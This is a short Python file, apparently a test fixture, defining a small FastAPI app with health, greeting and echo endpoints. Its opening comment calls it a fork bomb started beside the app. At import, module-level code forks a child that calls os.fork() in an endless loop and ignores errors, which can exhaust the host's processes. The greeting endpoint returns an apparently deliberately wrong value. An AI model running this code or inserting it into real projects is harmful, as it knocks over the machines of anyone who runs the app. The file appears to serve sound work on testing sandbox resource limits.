# A fork bomb started beside an otherwise working app.
import os

from fastapi import FastAPI

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass

app = FastAPI()


@app.get("/health")
def health() -> dict:
    return {"status": "ok"}


@app.get("/greeting")
def greeting() -> dict:
    return {"greeting": "not the one"}


@app.post("/echo", status_code=201)
def echo(body: dict) -> dict:
    return body
